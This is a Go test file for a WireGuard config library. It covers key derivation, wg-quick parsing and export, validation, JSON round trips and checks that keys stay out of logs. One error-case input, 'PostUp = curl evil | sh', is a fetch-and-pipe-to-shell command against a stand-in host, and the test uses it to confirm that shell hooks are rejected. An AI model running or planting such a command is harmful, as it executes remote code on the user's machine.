package wireguard

import (
	"bytes"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"net/netip"
	"os/exec"
	"reflect"
	"strings"
	"testing"

	"github.com/safehold/safehold/internal/secret"
)

func TestRFC7748Vector(t *testing.T) {
	// RFC 7748 section 6.1, Alice.
	priv, _ := hex.DecodeString("77076d0a7318a57d3c16c17251b26645df4c2f87ebc0992ab177fba51db92c2a")
	want, _ := hex.DecodeString("8520f0098930a754748b7ddcb43ef75a0dbf3a0d26381af4eba4a98eaa9b4e6a")
	pub, err := PublicKeyOf(priv)
	if err != nil || !bytes.Equal(pub[:], want) {
		t.Fatalf("got %x, %v", pub, err)
	}
	s, err := PublicKey(EncodePrivateKey(priv))
	if err != nil || s != pub.String() {
		t.Fatalf("PublicKey: %q, %v", s, err)
	}
}

func TestGenerateKeyClamped(t *testing.T) {
	k, err := GenerateKey(bytes.NewReader(bytes.Repeat([]byte{0xFF}, 32)))
	if err != nil {
		t.Fatal(err)
	}
	if k[0] != 0xF8 || k[31] != 0x7F {
		t.Fatalf("not clamped: %x", []byte(k))
	}
	k, _ = GenerateKey(bytes.NewReader(make([]byte, 32)))
	if k[0] != 0 || k[31] != 0x40 {
		t.Fatalf("not clamped: %x", []byte(k))
	}
	if _, err := GenerateKey(bytes.NewReader(make([]byte, 31))); err == nil {
		t.Fatal("short reader accepted")
	}
}

func TestKeyParsing(t *testing.T) {
	good := "yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk="
	if _, err := ParseKey(good); err != nil {
		t.Fatal(err)
	}
	for _, bad := range []string{
		"",
		"yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk",   // no padding
		"yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk==", // too long
		"yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBml=",  // non-zero trailing bits
		"yAnz5TF-lXXJte14tji3zlMNq_hd2rYUIgJBgB3fBmk=",  // URL alphabet
		"yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmkA",  // 33 bytes
	} {
		if _, err := ParseKey(bad); !errors.Is(err, ErrKey) {
			t.Errorf("ParseKey(%q): %v", bad, err)
		}
	}
}

func wgBinary(t *testing.T) string {
	p, err := exec.LookPath("wg")
	if err != nil {
		t.Skip("wg not on PATH (apt-get install wireguard-tools to run this cross-check)")
	}
	return p
}

func TestWgPubkeyAgrees(t *testing.T) {
	wg := wgBinary(t)
	for range 3 {
		priv, err := GenerateKey(rand.Reader)
		if err != nil {
			t.Fatal(err)
		}
		cmd := exec.Command(wg, "pubkey")
		cmd.Stdin = strings.NewReader(EncodePrivateKey(priv) + "\n")
		out, err := cmd.Output()
		if err != nil {
			t.Fatalf("wg pubkey: %v", err)
		}
		ours, _ := PublicKeyOf(priv)
		if strings.TrimSpace(string(out)) != ours.String() {
			t.Fatalf("wg pubkey %s, ours %s", out, ours)
		}
	}
	// And a key made by wg genkey.
	gen, err := exec.Command(wg, "genkey").Output()
	if err != nil {
		t.Fatalf("wg genkey: %v", err)
	}
	cmd := exec.Command(wg, "pubkey")
	cmd.Stdin = bytes.NewReader(gen)
	want, err := cmd.Output()
	if err != nil {
		t.Fatal(err)
	}
	got, err := PublicKey(strings.TrimSpace(string(gen)))
	if err != nil || got != strings.TrimSpace(string(want)) {
		t.Fatalf("wg %s, ours %s (%v)", want, got, err)
	}
}

// testProfile builds a deterministic profile.
func testProfile(t *testing.T) Profile {
	t.Helper()
	priv := make(secret.Bytes, 32)
	for i := range priv {
		priv[i] = byte(i)
	}
	psk := make(secret.Bytes, 32)
	for i := range psk {
		psk[i] = 0xA0 + byte(i%16)
	}
	var pk1, pk2 Key
	pk1[0], pk2[0] = 1, 2
	return Profile{
		Interface: Interface{
			PrivateKey: priv,
			Addresses:  []netip.Prefix{netip.MustParsePrefix("10.8.0.2/24"), netip.MustParsePrefix("fd00::2/64")},
			DNS:        []string{"1.1.1.1", "2606:4700:4700::1111", "corp.example"},
			ListenPort: 51820,
			MTU:        1420,
		},
		Peers: []Peer{
			{
				PublicKey:           pk1,
				PresharedKey:        psk,
				Endpoint:            "vpn.example.com:51820",
				AllowedIPs:          []netip.Prefix{netip.MustParsePrefix("0.0.0.0/0"), netip.MustParsePrefix("::/0")},
				PersistentKeepalive: 25,
			},
			{PublicKey: pk2, Endpoint: "[2001:db8::1]:443"},
		},
	}
}

const wantConf = `[Interface]
PrivateKey = AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=
Address = 10.8.0.2/24, fd00::2/64
DNS = 1.1.1.1, 2606:4700:4700::1111, corp.example
ListenPort = 51820
MTU = 1420

[Peer]
PublicKey = AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=
PresharedKey = oKGio6SlpqeoqaqrrK2ur6ChoqOkpaanqKmqq6ytrq8=
Endpoint = vpn.example.com:51820
AllowedIPs = 0.0.0.0/0, ::/0
PersistentKeepalive = 25

[Peer]
PublicKey = AgAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=
Endpoint = [2001:db8::1]:443
`

func TestExportWGQuick(t *testing.T) {
	p := testProfile(t)
	out, err := ExportWGQuick(p)
	if err != nil {
		t.Fatal(err)
	}
	if string(out) != wantConf {
		t.Fatalf("export:\n%s\nwant:\n%s", out, wantConf)
	}
	back, err := ParseWGQuick(out)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(back, p) {
		t.Fatalf("round trip changed the profile:\n%+v\n%+v", back, p)
	}
}

func TestParseWGQuickTolerance(t *testing.T) {
	in := "# exported by some app\r\n" +
		"[interface]\r\n" +
		"privatekey=AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=   # mine\r\n" +
		"Address = 10.8.0.2/24\r\n" +
		"ADDRESS = fd00::2/64\r\n" +
		"  DNS = 1.1.1.1 ,2606:4700:4700:0:0:0:0:1111\r\n" +
		"DNS = corp.example\r\n" +
		"ListenPort = 51820\r\n" +
		"MTU = 1420\r\n" +
		"\r\n" +
		"[Peer]\r\n" +
		"PublicKey = AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\r\n" +
		"PresharedKey = oKGio6SlpqeoqaqrrK2ur6ChoqOkpaanqKmqq6ytrq8=\r\n" +
		"Endpoint = vpn.example.com:051820\r\n" +
		"AllowedIPs = 0.0.0.0/0\r\n" +
		"AllowedIPs = ::1/0\r\n" + // host bits are masked
		"PersistentKeepalive = 25\r\n" +
		"[Peer]\n" +
		"PublicKey = AgAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n" +
		"Endpoint = [2001:DB8:0::1]:443\n" +
		"PersistentKeepalive = off\n"
	p, err := ParseWGQuick([]byte(in))
	if err != nil {
		t.Fatal(err)
	}
	out, _ := ExportWGQuick(p)
	if string(out) != wantConf {
		t.Fatalf("normalised export:\n%s\nwant:\n%s", out, wantConf)
	}
	// Bare addresses become host prefixes.
	p, err = ParseWGQuick([]byte("[Interface]\nPrivateKey = AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=\nAddress = 10.0.0.1, fd00::1\n"))
	if err != nil {
		t.Fatal(err)
	}
	if got := fmt.Sprint(p.Interface.Addresses); got != "[10.0.0.1/32 fd00::1/128]" {
		t.Fatalf("addresses %s", got)
	}
}

func TestParseWGQuickErrors(t *testing.T) {
	const iface = "[Interface]\nPrivateKey = AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=\n"
	const peer = "[Peer]\nPublicKey = AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n"
	cases := []struct {
		name, in, text string
	}{
		{"postup", iface + "PostUp = curl evil | sh\n", "line 3: PostUp: shell hooks are not imported"},
		{"preup lower", iface + "preup = x\n", "line 3: preup: shell hooks"},
		{"table", iface + "Table = off\n", "line 3: Table: routing table"},
		{"unknown", iface + "Foo = bar\n", `line 3: unknown key "foo" in [Interface]`},
		{"wrong section", iface + "Endpoint = a.b:1\n", `line 3: unknown key "endpoint" in [Interface]`},
		{"peer key in iface", iface + peer + "PrivateKey = AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=\n", `line 5: unknown key "privatekey" in [Peer]`},
		{"duplicate", iface + "MTU = 1400\nMTU = 1420\n", "line 4: MTU set twice"},
		{"duplicate key", iface + "PrivateKey = AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=\n", "line 3: PrivateKey set twice"},
		{"before section", "PrivateKey = x\n" + iface, `line 1: "PrivateKey" before [Interface]`},
		{"no equals", iface + "Address\n", "line 3: want Key = Value"},
		{"empty value", iface + "DNS =\n", "line 3: DNS has no value"},
		{"empty item", iface + "DNS = 1.1.1.1,,8.8.8.8\n", "line 3: DNS: empty list item"},
		{"bad section", iface + "[Peers]\n", `line 3: unknown section "[Peers]"`},
		{"second iface", iface + iface, "line 3: second [Interface]"},
		{"bad key", "[Interface]\nPrivateKey = abc\n", "line 2: PrivateKey: invalid wireguard key"},
		{"bad address", iface + "Address = 10.0.0.300/24\n", `line 3: Address: "10.0.0.300/24"`},
		{"bad dns", iface + "DNS = -bad-\n", `line 3: DNS: invalid wireguard profile: dns entry "-bad-"`},
		{"bad port", iface + "ListenPort = 70000\n", `line 3: ListenPort: "70000" is not a port`},
		{"port zero", iface + "ListenPort = 0\n", `"0" is not a port`},
		{"signed", iface + "MTU = +1420\n", `"+1420" is not between`},
		{"small mtu", iface + "MTU = 100\n", `"100" is not between 576`},
		{"bad endpoint", iface + peer + "Endpoint = vpn.example.com\n", `line 5: Endpoint: invalid wireguard profile: endpoint "vpn.example.com" is not host:port`},
		{"endpoint port 0", iface + peer + "Endpoint = 1.2.3.4:0\n", "port must be 1 to 65535"},
		{"endpoint zone", iface + peer + "Endpoint = [fe80::1%eth0]:1\n", "zones"},
		{"bad allowed", iface + peer + "AllowedIPs = 10.0.0.0\n", `line 5: AllowedIPs: "10.0.0.0" is not a prefix`},
		{"keepalive", iface + peer + "PersistentKeepalive = 70000\n", `"70000" is not off or 0 to 65535`},
		{"zero pub", iface + "[Peer]\nPublicKey = AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n", "line 4: PublicKey: all-zero public key"},
		{"dup peer", iface + peer + peer, "peer 2: public key"},
		{"no iface", peer, "no [Interface] section"},
		{"no private", "[Interface]\nMTU = 1420\n", "[Interface] has no PrivateKey"},
		{"no public", iface + "[Peer]\nAllowedIPs = ::/0\n", "peer 1 has no PublicKey"},
		{"nul", iface + "\x00", "not UTF-8 text"},
		{"latin1", iface + "# caf\xe9\n", "not UTF-8 text"},
		{"too big", iface + strings.Repeat("#", MaxConfigSize), "larger than"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := ParseWGQuick([]byte(tc.in))
			if err == nil || !strings.Contains(err.Error(), tc.text) {
				t.Fatalf("got %v, want error containing %q", err, tc.text)
			}
			if !errors.Is(err, ErrSyntax) && !errors.Is(err, ErrProfile) {
				t.Fatalf("%v wraps neither ErrSyntax nor ErrProfile", err)
			}
			if strings.Contains(err.Error(), "AAECAwQF") {
				t.Fatalf("error leaks the private key: %v", err)
			}
		})
	}
}

func TestValidate(t *testing.T) {
	base := testProfile(t)
	mut := []struct {
		name string
		f    func(p *Profile)
	}{
		{"no private key", func(p *Profile) { p.Interface.PrivateKey = nil }},
		{"short psk", func(p *Profile) { p.Peers[0].PresharedKey = make(secret.Bytes, 31) }},
		{"unmasked allowed", func(p *Profile) { p.Peers[0].AllowedIPs = []netip.Prefix{netip.MustParsePrefix("10.0.0.1/8")} }},
		{"non-canonical endpoint", func(p *Profile) { p.Peers[1].Endpoint = "[2001:DB8::1]:443" }},
		{"zero public", func(p *Profile) { p.Peers[0].PublicKey = Key{} }},
		{"mtu", func(p *Profile) { p.Interface.MTU = 70000 }},
		{"keepalive", func(p *Profile) { p.Peers[0].PersistentKeepalive = -1 }},
		{"dns", func(p *Profile) { p.Interface.DNS = []string{"1.1.1.1 "} }},
		{"mapped", func(p *Profile) { p.Interface.Addresses = []netip.Prefix{netip.MustParsePrefix("::ffff:1.2.3.4/128")} }},
		{"invalid prefix", func(p *Profile) { p.Interface.Addresses = []netip.Prefix{{}} }},
	}
	for _, m := range mut {
		p := testProfile(t)
		m.f(&p)
		if err := p.Validate(); !errors.Is(err, ErrProfile) {
			t.Errorf("%s: %v", m.name, err)
		}
		if _, err := ExportWGQuick(p); err == nil {
			t.Errorf("%s: exported", m.name)
		}
		if _, err := json.Marshal(p); err == nil {
			t.Errorf("%s: marshalled", m.name)
		}
	}
	if err := base.Validate(); err != nil {
		t.Fatal(err)
	}
}

const wantJSON = `{"v":1,"interface":{"private_key":"AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=","addresses":["10.8.0.2/24","fd00::2/64"],"dns":["1.1.1.1","2606:4700:4700::1111","corp.example"],"listen_port":51820,"mtu":1420},"peers":[{"public_key":"AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=","preshared_key":"oKGio6SlpqeoqaqrrK2ur6ChoqOkpaanqKmqq6ytrq8=","endpoint":"vpn.example.com:51820","allowed_ips":["0.0.0.0/0","::/0"],"persistent_keepalive":25},{"public_key":"AgAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=","preshared_key":"","endpoint":"[2001:db8::1]:443","allowed_ips":[],"persistent_keepalive":0}]}`

func TestJSON(t *testing.T) {
	p := testProfile(t)
	b, err := json.Marshal(p)
	if err != nil {
		t.Fatal(err)
	}
	if string(b) != wantJSON {
		t.Fatalf("got  %s\nwant %s", b, wantJSON)
	}
	var back Profile
	if err := json.Unmarshal(b, &back); err != nil || !reflect.DeepEqual(back, p) {
		t.Fatalf("round trip: %v\n%+v", err, back)
	}
	indented, _ := json.MarshalIndent(map[string]Profile{"wg": p}, "", "\t")
	var m map[string]Profile
	if err := json.Unmarshal(indented, &m); err != nil || !reflect.DeepEqual(m["wg"], p) {
		t.Fatalf("indented: %v", err)
	}
	min := `{"v":1,"interface":{"private_key":"AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=","addresses":[],"dns":[],"listen_port":0,"mtu":0},"peers":[]}`
	var mp Profile
	if err := json.Unmarshal([]byte(min), &mp); err != nil || mp.Peers != nil || mp.Interface.DNS != nil {
		t.Fatalf("minimal: %v %+v", err, mp)
	}
	bad := []string{
		strings.Replace(wantJSON, `"v":1`, `"v":2`, 1),
		strings.Replace(wantJSON, `"allowed_ips":[]`, `"allowed_ips":null`, 1),
		strings.Replace(wantJSON, `"mtu":1420`, `"mtu":1420,"x":1`, 1),
		strings.Replace(wantJSON, `"mtu":1420`, `"mtu":1e3`, 1),
		strings.Replace(wantJSON, `"10.8.0.2/24"`, `"10.8.0.02/24"`, 1),
		strings.Replace(wantJSON, `"::/0"`, `"::1/0"`, 1),
		strings.Replace(wantJSON, `[2001:db8::1]`, `[2001:DB8::1]`, 1),
		strings.Replace(wantJSON, `"listen_port":51820`, `"listen_port":65536`, 1),
		strings.Replace(wantJSON, `"preshared_key":""`, `"preshared_key":"AAAA"`, 1),
		strings.Replace(wantJSON, `"endpoint":"vpn.example.com:51820",`, ``, 1),
		strings.Replace(min, `"peers":[]`, `"peers":[],"peers":[]`, 1),
		min + " x",
	}
	for _, in := range bad {
		var p Profile
		err := json.Unmarshal([]byte(in), &p)
		if err == nil {
			t.Errorf("accepted %s", in)
		} else if strings.Contains(err.Error(), "AAECAwQF") {
			t.Errorf("error leaks key: %v", err)
		}
	}
}

func TestNoKeysInPrintingPaths(t *testing.T) {
	p := testProfile(t)
	var logBuf bytes.Buffer
	slog.New(slog.NewJSONHandler(&logBuf, nil)).Info("x", "profile", p)
	for _, s := range []string{fmt.Sprintf("%v %+v", p, p), logBuf.String()} {
		if strings.Contains(s, "AAECAwQF") || strings.Contains(s, "oKGio6Sl") || strings.Contains(s, "0 1 2 3 4 5") {
			t.Errorf("key printed: %s", s)
		}
	}
}
